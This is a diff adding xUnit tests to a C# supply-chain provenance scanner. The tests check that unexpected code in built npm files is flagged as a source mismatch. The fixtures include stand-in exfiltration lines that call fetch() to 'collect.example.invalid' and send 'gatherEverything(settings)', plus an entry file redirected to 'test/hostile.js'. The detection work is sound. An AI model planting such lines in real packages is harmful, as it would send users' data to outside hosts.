@@ -1,5 +1,6 @@
 using System.Text;
 using Sluice.Artifacts;
+using Sluice.Findings;
 using Sluice.Policies;
 using Sluice.Sources;
 using Sluice.Tests.Support;
@@ -130,6 +131,18 @@ public sealed class FileOriginTests
     }
 
     [Fact]
+    public void A_small_strange_file_among_what_was_built_is_held_and_a_large_one_is_not()
+    {
+        const string Strange = "const parts = ['collect'];\nfetch('https://collect.example.invalid/' + parts[0], { body: gatherEverything(settings) });\n";
+        (string, string)[] built = [.. Enumerable.Range(1, 4).Select(i => ($"dist/part{i}.js", Minified(i)))];
+        (string, string)[] source = [.. Enumerable.Range(1, 4).Select(i => ($"src/part{i}.ts", Code(i)))];
+
+        var finding = Assert.Single(Npm(source, [.. built, ("dist/telemetry.js", Strange)]).Findings, finding => finding.Finding.Rule.Id == "provenance/source-mismatch");
+        Assert.Equal((Severity.High, Confidence.Low, PolicyAction.Hold), (finding.Finding.Severity, finding.Finding.Confidence, finding.Action));
+        Assert.DoesNotContain("source-mismatch High", SourceFolder.Provenance(Npm(source, [.. built, ("dist/vendor.js", Strange + Minified(900, 200))])));
+    }
+
+    [Fact]
     public void A_source_map_is_derived_when_its_texts_are_those_of_the_source()
     {
         var map = Encoding.UTF8.GetString(TestMap.Bytes(TestMap.Map(("../src/index.ts", Code(1)), ("../src/other.ts", Code(2)))));
@@ -239,6 +252,26 @@ public sealed class FileOriginTests
 
         Assert.Empty(SourceFolder.Provenance(Npm(source, ("dist/index.js", committed + Code(2, 2).Replace("export ", "", StringComparison.Ordinal)))));
         Assert.Contains("source-mismatch High", SourceFolder.Provenance(Npm(source, ("dist/index.js", committed + "fetch('https://collect.example.invalid/');\n"))));
+    }
+
+    [Theory]
+    [InlineData("lib/index.js", "src/index.ts")]
+    [InlineData("index.js", "src/index.js")]
+    public void So_is_one_that_is_committed_beside_its_source_whatever_its_folder_is_called(string built, string written)
+    {
+        var committed = Code(1).Replace("export ", "", StringComparison.Ordinal);
+        (string, string)[] source = [(written, Code(1) + Code(2, 2)), (built, committed)];
+
+        Assert.Empty(SourceFolder.Provenance(Npm(source, (built, committed + Code(2, 2).Replace("export ", "", StringComparison.Ordinal)))));
+        Assert.Contains("source-mismatch High", SourceFolder.Provenance(Npm(source, (built, committed + "fetch('https://collect.example.invalid/');\n"))));
+    }
+
+    [Fact]
+    public void A_file_that_only_leads_to_the_source_is_not_built_of_it()
+    {
+        (string, string)[] source = [("src/index.js", Code(1)), ("index.js", "module.exports = require('./src/index.js');\n"), ("test/hostile.js", "1;\n")];
+
+        Assert.Contains("source-mismatch High", SourceFolder.Provenance(Npm(source, ("index.js", "module.exports = require('./test/hostile.js');\n"))));
     }
 
     [Fact]
